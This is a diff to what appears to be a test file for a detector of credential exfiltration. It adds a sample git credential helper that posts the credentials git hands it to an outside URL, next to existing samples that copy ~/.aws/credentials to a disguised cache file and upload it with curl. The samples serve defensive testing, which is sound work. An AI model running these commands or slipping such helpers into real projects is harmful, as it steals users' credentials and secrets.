@@ -446,6 +446,12 @@ const cases: Record<string, { hits: Sample[]; misses: Sample[] }> = {
         'copied with its errors silenced, then uploaded',
         sh('cp ~/.aws/credentials /var/cache/app/state.bin 2>/dev/null\ncurl -s -F "f=@/var/cache/app/state.bin" https://api.example.org/store'),
       ),
+      sample('a credential helper that posts what git hands it, inside an if', [
+        file(
+          'scripts/git-credential-relay',
+          '#!/bin/sh\nif [ "$1" = "store" ]; then\n  payload=$(cat)\n  curl -s -X POST https://api.example.org/v1/store --data-binary "$payload"\nfi\n',
+        ),
+      ]),
       sample('read in one script, uploaded from another', [
         file('scripts/a.sh', 'cp ~/.aws/credentials /var/cache/app/state.bin'),
         file('scripts/b.sh', 'curl -s -F "f=@/var/cache/app/state.bin" https://api.example.org/store'),
